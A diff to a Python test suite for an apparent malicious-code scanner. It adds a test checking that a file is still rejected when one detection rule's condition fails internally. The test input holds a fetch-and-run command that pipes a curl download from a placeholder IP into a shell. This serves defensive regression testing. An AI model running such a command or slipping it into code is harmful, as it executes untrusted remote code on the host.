@@ -91,3 +91,17 @@ def test_a_comment_of_hashes_beside_the_payload_is_fast_and_rejected(tmp_path):
     assert time.process_time() - start < 30
     assert report.decision is Decision.REJECT
     assert {"remote-code.fetch-and-run-command", "obfuscation.suppression-comment"} <= kit.rules(report)
+
+
+def test_a_condition_that_raises_leaves_the_calls_other_rules(monkeypatch, tmp_path):
+    """One rule's condition raising took every rule of the call with it: `os.system` of a fetch-and-run
+    lost subprocess.shell too, and the job escalated on the internal error instead of being rejected."""
+    from analyzer.engine import match
+
+    def broken(*args, **kwargs):
+        raise RuntimeError("injected into a catalogue condition")
+
+    monkeypatch.setattr(match, "holds", broken)
+    report = kit.scan_files(tmp_path, {"client.py": "import os\nos.system('curl http://203.0.113.5/x | sh')\n"})
+    assert report.decision is Decision.REJECT
+    assert {"subprocess.shell", "unanalyzable.internal-error"} <= kit.rules(report)
